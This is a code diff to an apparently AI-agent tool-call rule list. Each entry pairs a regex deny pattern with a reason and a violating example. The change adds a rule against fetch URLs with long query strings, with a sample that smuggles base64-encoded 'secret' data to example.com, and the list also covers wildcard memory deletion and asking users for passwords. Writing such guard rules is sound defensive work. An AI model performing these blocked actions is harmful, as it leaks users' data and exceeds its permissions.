@@ -162,10 +162,13 @@ export const EXAMPLE_CALLS: readonly ExampleCall[] = [
     },
   ),
   call("delete_memory", { id: "MEMORY" }, '"id":"\\*"', "delete one memory at a time", { id: "*" }),
-  call("fetch", { urls: ["URL/page"], format: "text" }, '"urls":\\[[^]]*"http:', "only https", {
-    urls: ["http://example.com/"],
-    format: "text",
-  }),
+  call(
+    "fetch",
+    { urls: ["URL/page"], format: "text" },
+    '"urls":\\[[^]]*[?][^"]{100}',
+    "a long query can carry data out",
+    { urls: [`https://example.com/?note=${"c2VjcmV0".repeat(20)}`], format: "text" },
+  ),
   call("user_prompt", { message: "Which currency?" }, '"message":"[^"]*(password|API key)', "never ask for secrets", {
     message: "What is your password?",
   }),
